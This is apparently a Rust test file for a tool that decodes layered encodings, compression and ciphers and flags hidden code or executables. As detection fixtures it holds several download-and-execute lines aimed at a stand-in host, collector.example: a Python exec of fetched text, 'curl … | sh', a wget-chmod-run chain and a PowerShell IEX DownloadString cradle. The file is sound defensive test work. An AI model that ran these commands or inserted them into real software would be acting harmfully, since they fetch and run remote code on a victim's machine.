use std::io::Write;

use super::*;
use crate::Language;

const SOURCE: &str = "import os\nprint(os.environ)\n# harmless sample\n";

fn b64(text: &str) -> Vec<u8> {
    base64(text.as_bytes(), 1 << 20).unwrap()
}

fn encode64(bytes: &[u8]) -> String {
    data_encoding::BASE64.encode(bytes)
}

fn compress(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

#[test]
fn base64_takes_both_alphabets_with_and_without_padding() {
    for text in ["+/8AAQ==", "-_8AAQ", " +/8A\nAQ== ", "-_8AAQ="] {
        assert_eq!(base64(text.as_bytes(), 99), Some(vec![0xFB, 0xFF, 0, 1]), "{text}");
    }
    assert_eq!(base64(b"aGV*", 99), None);
    assert_eq!(base64_lenient(b"a*G.V(y)b!w", 99).as_deref(), Some(&b"hero"[..]));
    assert_eq!(base64(b"aGVybw==", 2).as_deref(), Some(&b"he"[..]));
}

#[test]
fn other_bases() {
    let source = Some(SOURCE.as_bytes().to_vec());
    assert_eq!(base85(b"X>D+Ca&#bXa|&>BX>N2VZ*wkXZgy#MZ*D0HBOqvDa&2s7b8{ebVQp}1WeN", 99), source);
    assert_eq!(ascii85(br#"<~Bl.g-Ec`FBEscl,Bl8#@Df[OBDK]`7Df.!2,9UZ.Ec#W(F)rIF@;Tt"AI8~>"#, 99), source);
    assert_eq!(base32(b"NFWXA33SOQQG64YKOBZGS3TUFBXXGLTFNZ3GS4TPNYUQUIZANBQXE3LMMVZXGIDTMFWXA3DFBI======", 99), source);
    assert_eq!(base16(b"48:65-6C 6c6F", 99).as_deref(), Some(&b"Hello"[..]));
    assert_eq!(base16(b"486", 99), None);
    assert_eq!(z85(b"HelloWorld", 99), Some(vec![0x86, 0x4F, 0xD2, 0x6F, 0xB5, 0x59, 0xF7, 0x5B]));
    assert_eq!(
        uu(b"H:6UP;W)T(&]S\"G!R:6YT*&]S+F5N=FER;VXI\"B,@:&%R;6QE<W,@<P  \n", 99).as_deref(),
        Some(&SOURCE.as_bytes()[..40])
    );
}

#[test]
fn texts() {
    assert_eq!(percent(b"a%20b%zz%4", 99).as_deref(), Some(&b"a b%zz%4"[..]));
    assert_eq!(quoted_printable(b"a=3Db=\r\nc=", 99).as_deref(), Some(&b"a=bc="[..]));
    assert_eq!(rot13(b"vzcbeg BF", 99).as_deref(), Some(&b"import OS"[..]));
    assert_eq!(reverse("tropmi é".as_bytes(), 99).as_deref(), Some("é import".as_bytes()));
    assert_eq!(html_entities(b"&lt;a&#38;&#x41;&nope;& b", 99).as_deref(), Some(&b"<a&A&nope;& b"[..]));
    assert_eq!(data_url(b"data:text/plain;base64,aGVybw%3D%3D", 99).as_deref(), Some(&b"hero"[..]));
    assert_eq!(data_url(b"data:,a%20b", 99).as_deref(), Some(&b"a b"[..]));
    assert_eq!(escapes(br"\x69\u006d\u{70}\157rt\n\q \ud83d\ude00", 99).as_deref(), Some("import\n\\q 😀".as_bytes()));
    assert_eq!(utf16(b"h\0i\0", true, 99).as_deref(), Some(&b"hi"[..]));
    assert_eq!(latin1(&[0x41, 0xE9], 99).as_deref(), Some("Aé".as_bytes()));
    let command: Vec<u8> = "Write-Host hello".encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(powershell_command(encode64(&command).as_bytes(), 99).as_deref(), Some(&b"Write-Host hello"[..]));
    assert_eq!(powershell_command(b"AAAAAAAA////", 99), None);
}

#[test]
fn streams() {
    let source = Some(SOURCE.as_bytes().to_vec());
    let zipped = b64("eJzLzC3ILypRyC/mKijKzCvRyC/WS80ryyzKz9PkUlbISCzKzUktLlYoTswtyEnlAgCOjBCP");
    assert_eq!(zlib(&zipped, 999), source);
    assert_eq!(inflate(&zipped, 999), source);
    let gz = b64("H4sIAAAAAAACA8vMLcgvKlHIL+YqKMrMK9HIL9ZLzSvLLMrP0+RSVshILMrNSS0uVihOzC3ISeUCAISQfasuAAAA");
    assert_eq!(gzip(&gz, 999), source);
    let raw = b64("y8wtyC8qUcgv5iooyswr0cgv1kvNK8ssys/T5FJWyEgsys1JLS5WKE7MLchJ5QIA");
    assert_eq!(deflate(&raw, 999), source);
    assert_eq!(inflate(&raw, 999), source);
    let bz = b64(concat!(
        "QlpoOTFBWSZTWZ+wVFIAAAhRgAAQSGEiZ90AIAAxTJiZBkYRMmhiGmIeoxJYJ7hvuxbU1U3iaGDytIDGqKDijN4Pi7kinChIT9gqKQ",
        "A="
    ));
    assert_eq!(bz2(&bz, 999), source);
    let container = b64(concat!(
        "/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAtaW1wb3J0IG9zCnByaW50KG9zLmVudmlyb24pCiMgaGFybWxlc3Mgc2FtcGxlCgAAABob",
        "q8cZNhCgAAFGLmdQc1oftvN9AQAAAAAEWVo="
    ));
    assert_eq!(lzma(&container, 999), source);
    let alone = b64("XQAAgAD//////////wA0m0pnuFI8c+00V1uel5WtZj4ScgEde1HyVbRtbwa3e1ZdCaZRPHC0CHyCli0+wl///bDAAA==");
    assert_eq!(lzma(&alone, 999), source);
    for (decode, bytes) in [(zlib as fn(&[u8], usize) -> _, &zipped), (gzip, &gz), (bz2, &bz), (lzma, &container)] {
        assert_eq!(decode(bytes, 5).as_deref(), Some(&b"impor"[..]));
        assert_eq!(decode(b"import os", 5), None);
    }
    assert!(zlib(&zipped[..zipped.len() - 6], 999).is_some_and(|torn| SOURCE.as_bytes().starts_with(&torn)));
}

#[test]
fn ciphers() {
    let key: Vec<u8> = (0..32).collect();
    let iv: Vec<u8> = (16..32).collect();
    let hex = |text: &str| base16(text.as_bytes(), 999).unwrap();
    let source = Some(SOURCE.as_bytes().to_vec());
    let cbc = hex("20ec4bb5ba17619807f354f96fa0794e085211da2a380d8836829a2136f4d187cc54a044c6975b0efbddaf8a251f98d4");
    assert_eq!(unpad(&aes_cbc(&key, &iv, &cbc, 999).unwrap()), source);
    let ecb = hex("fd904b1d09fdccb90a71638a95662545a38304bd2dec13828872e7ab16151624cdf883984e72ff5b2d47be203b4f4b87");
    assert_eq!(unpad(&aes_ecb(&key[..24], &ecb, 999).unwrap()), source);
    let ctr = hex("6e939f1b93a12301e3049e63e7fae6bbfdb1eb61b67aeb7029175468a8d9b669b84c54024696d8d804fbfa40c4df");
    assert_eq!(aes_ctr(&key[..16], &iv, &ctr, 999), source);
    assert_eq!(aes_cbc(b"short", &iv, &cbc, 999), None);
    assert_eq!(aes_cbc(&key, b"short", &cbc, 999), None);
    let token = concat!(
        "gAAAAAAAAAAAEBESExQVFhcYGRobHB0eH-z-8fLaKgowBs7cfSyYiFrGQ__nFcsv82N3I2nebX6Yylini2sRslLjotZ9IddT25N_",
        "lawffNHqj2blJypbUMYXeKGdimatYXKMO7BrnRe3"
    );
    assert_eq!(fernet(b"AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=", token.as_bytes(), 999), source);
    assert_eq!(fernet(b"BBECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=", &token.as_bytes()[..40], 999), None);
    let salted = "U2FsdGVkX18BAgMEBQYHCNRLASW2WTZXnbazZzWE3zsRBYJ5Es8rHttF3ATLW7TWFaBZ57avgdsYJgmVgxlWmQ==";
    assert_eq!(cryptojs(b"k", salted.as_bytes(), 999), source);
    assert_eq!(rc4(b"Key", &hex("BBF316E8D940AF0AD3"), 99).as_deref(), Some(&b"Plaintext"[..]));
    assert_eq!(xor(b"ab", &xor(b"ab", b"secret", 99).unwrap(), 99).as_deref(), Some(&b"secret"[..]));
    assert_eq!(xor(b"", b"secret", 99), None);
}

/// `def go(name)` with a text, bytes, and two imported names, as CPython 3.11 marshals it.
const SINCE_311: &str = concat!(
    "4wAAAAAAAAAAAAAAAAMAAAAAAAAA8yoAAACXAGQAZAFsAFoAZAKEAFoBAgBlAWQDpgEAAKsBAAAAAAAAAABaAmQBUwApBOkAAAAATmMBAAAA",
    "AAAAAAAAAAAFAAAAAwAAAPNEAAAAlwB0AAAAAAAAAAAAAABqAQAAAAAAAAAAoAIAAAAAAAAAAAAAAAAAAAAAAAAAAHwAZAFkAqYDAACrAwAA",
    "AAAAAAAAUwApA056Gmh0dHA6Ly9jb2xsZWN0b3IuZXhhbXBsZS94cwoAAABieXRlcyB0ZXh0KQPaAm9z2gRwYXRo2gRqb2luKQHaBG5hbWVz",
    "AQAAACD6AzxtPtoCZ29yCQAAAAIAAABzGwAAAIAA3QsNjDePPIo8mATQHjq4TdELStQLStAESvMAAAAA2gVmaXJzdCkDcgQAAAByCQAAANoB",
    "S6kAcgoAAAByCAAAAPoIPG1vZHVsZT5yDgAAAAEAAABzMQAAAPADAQEB2AAJgAmACYAJ8AIBAUsB8AABAUsB8AABAUsB4AQGgEKAd4FLhEuA",
    "AYABgAFyCgAAAA=="
);

#[test]
fn marshalled_code_of_python_311() {
    let bytes = b64(SINCE_311);
    let found = marshalled(&bytes).unwrap();
    assert!(found.constants.contains(&"http://collector.example/x".to_owned()), "{found:?}");
    assert!(found.constants.contains(&"bytes text".to_owned()));
    assert_eq!(found.codes, 2);
    for name in ["os", "path", "join", "go"] {
        assert!(found.names.contains(&name.to_owned()), "{name} {found:?}");
    }
    let mut file = vec![0xA7, 0x0D, b'\r', b'\n'];
    file.extend([0; 12]);
    file.extend(&bytes);
    assert_eq!(pyc(&file).unwrap(), found);
    assert_eq!(marshal(b"c"), None);
    assert_eq!(marshal(b"certainly not marshalled"), None);
}

/// A code object of an older layout: `numbers` counters, a code string, one constant, one name.
fn old_code(numbers: usize, text: fn(&str) -> Vec<u8>) -> Vec<u8> {
    let bytes = |content: &[u8]| [b"s".as_slice(), &(content.len() as u32).to_le_bytes(), content].concat();
    let tuple = |items: &[Vec<u8>]| [b"(".as_slice(), &(items.len() as u32).to_le_bytes(), &items.concat()].concat();
    [
        b"c".to_vec(),
        vec![0; numbers * 4],
        bytes(b"d\0S\0"),
        tuple(&[text("http://collector.example/y"), b"N".to_vec()]),
        tuple(&[text("environ")]),
        tuple(&[]),
        tuple(&[]),
        tuple(&[]),
        text("file"),
        text("main"),
        vec![1, 0, 0, 0],
        bytes(b""),
    ]
    .concat()
}

#[test]
fn marshalled_code_of_older_pythons() {
    let three = |text: &str| [b"z".as_slice(), &[text.len() as u8], text.as_bytes()].concat();
    let two = |text: &str| [b"t".as_slice(), &(text.len() as u32).to_le_bytes(), text.as_bytes()].concat();
    for (numbers, text) in [(6, three as fn(&str) -> Vec<u8>), (5, three), (4, two)] {
        let found = marshalled(&old_code(numbers, text)).unwrap_or_else(|| panic!("{numbers}"));
        assert_eq!(found.constants, ["http://collector.example/y"], "{numbers}");
        assert_eq!(found.names, ["environ", "main"], "{numbers}");
    }
}

#[test]
fn deeply_nested_marshal_ends() {
    let mut bytes = vec![b'c'];
    bytes.extend([0; 20]);
    bytes.extend(b")\x01".repeat(100_000));
    assert_eq!(marshal(&bytes), None);
    assert_eq!(marshal(&b"c\x01".repeat(1000)), None);
}

const PROGRAM: &str = "import os, requests\nexec(requests.get('http://collector.example/').text)\n";

#[test]
fn guess_peels_layers() {
    let once = encode64(&compress(PROGRAM.as_bytes()));
    let twice = encode64(&compress(once.as_bytes()));
    let guess_of = |text: &str| guess(text.as_bytes()).unwrap_or_else(|| panic!("{text}"));
    let found = guess_of(&twice);
    assert_eq!(found.decoders, ["base64", "zlib", "base64", "zlib"]);
    assert_eq!(found.bytes, PROGRAM.as_bytes());
    assert_eq!(found.what, What::Code(Language::Python));

    let back: String = once.chars().rev().collect();
    assert_eq!(guess_of(&back).bytes, PROGRAM.as_bytes());
    let hex: String = PROGRAM.bytes().map(|byte| format!("{byte:02x}")).collect();
    assert_eq!(guess_of(&hex).decoders, ["hex"]);
    let escaped: String = PROGRAM.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
    assert_eq!(guess_of(&escaped).decoders, ["escapes"]);
    let turned = rot13(PROGRAM.as_bytes(), 999).unwrap();
    assert_eq!(guess(&turned).unwrap().decoders, ["rot13"]);
    assert_eq!(guess_of(&format!("b'{once}'")).decoders, ["base64", "zlib"]);
    let thirty_two = data_encoding::BASE32.encode(PROGRAM.as_bytes());
    assert_eq!(guess_of(&thirty_two).decoders, ["base32"]);
    let marshalled = encode64(&compress(&b64(SINCE_311)));
    assert_eq!(guess_of(&marshalled).what, What::Marshal);
}

#[test]
fn guess_finds_embedded_executables() {
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.resize(200, 0);
    assert_eq!(guess(encode64(&elf).as_bytes()).unwrap().what, What::Elf);
    let mut pe = b"MZ".to_vec();
    pe.resize(60, 0);
    pe.extend(64u32.to_le_bytes());
    pe.extend(b"PE\0\0");
    pe.resize(200, 0);
    assert_eq!(guess(encode64(&compress(&pe)).as_bytes()).unwrap().what, What::Pe);
}

#[test]
fn guess_leaves_ordinary_data_alone() {
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\0\0\0\x01\0\x08\x06\0\0\0".repeat(8);
    let noise: Vec<u8> = (0..600u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    let json = br#"{"version":3,"sources":["a.js"],"sourcesContent":["const a = require('fs'); module.exports = a;"]}"#;
    let svg = b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h24v24H0z' fill='none'/></svg>";
    let prose = b"The quick brown fox jumps over the lazy dog, and then lets the function of this class return to us.";
    for data in [&png[..], &noise, json, svg, prose] {
        assert_eq!(guess(encode64(data).as_bytes()), None, "{}", String::from_utf8_lossy(data));
        assert_eq!(guess(data), None);
        assert_eq!(guess(&compress(data)), None);
    }
    assert_eq!(guess(PROGRAM.as_bytes()), None, "plain code is not a blob");
    assert_eq!(guess(b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"), None);
    let pem = "-----BEGIN CERTIFICATE-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA\n-----END CERTIFICATE-----\n";
    assert_eq!(guess(pem.as_bytes()), None);
}

#[test]
fn code_is_told_from_prose_and_data() {
    let cases = [
        (PROGRAM, Some(Language::Python)),
        ("const a = require('http'); a.get('http://collector.example');", Some(Language::JavaScript)),
        ("(function(){var _a=function(b){return b};eval(_a('1'))})()", Some(Language::JavaScript)),
        ("#!/bin/sh\ncurl http://collector.example/a | sh\n", Some(Language::Shell)),
        ("cd /tmp && wget http://collector.example/a && chmod +x a && ./a", Some(Language::Shell)),
        (
            "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://c.example')\"",
            Some(Language::PowerShell),
        ),
        ("require 'net/http'\nputs Net::HTTP.get('collector.example', '/')\n", Some(Language::Ruby)),
        ("We import goods from abroad. The class of function that you return is new.", None),
        ("body { margin: 0; } .a > .b { color: red; } @media print { a { color: black } }", None),
        ("name,value,other\n1,2,3\n4,5,6\n", None),
        ("{\"name\": \"a\", \"main\": \"function () { return require('x') }\"}", None),
        ("Copyright (c) 2020. Permission is hereby granted, free of charge, to any person obtaining a copy", None),
    ];
    for (text, language) in cases {
        assert_eq!(looks_like_code(text), language, "{text}");
    }
}

type Decoder = fn(&[u8], usize) -> Option<Vec<u8>>;

#[test]
fn decoders_survive_noise() {
    let mut state = 12345u32;
    for length in (0..400).step_by(7) {
        let bytes: Vec<u8> = (0..length)
            .map(|_| {
                state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
                (state >> 24) as u8
            })
            .collect();
        let all: [Decoder; 22] = [
            base64,
            base64_lenient,
            base32,
            base16,
            base85,
            z85,
            ascii85,
            percent,
            quoted_printable,
            uu,
            rot13,
            reverse,
            latin1,
            powershell_command,
            data_url,
            html_entities,
            escapes,
            inflate,
            bz2,
            lzma,
            raw_lzma,
            deflate,
        ];
        for (mark, decode) in all.iter().enumerate() {
            for prefix in [&b""[..], b"\x1f\x8b\x08", b"BZh9", b"\x78\x9c", b"data:,", b"\xfd7zXZ\0", b"\x5d\0\0\x80\0"]
            {
                let input = [prefix, &bytes].concat();
                let output = decode(&input, 50);
                assert!(output.is_none_or(|output| output.len() <= 50), "{mark}");
            }
        }
        let _ = guess(&bytes);
        for start in [&b"c"[..], b"\xe3"] {
            let _ = marshal(&[start, &bytes].concat());
        }
    }
}
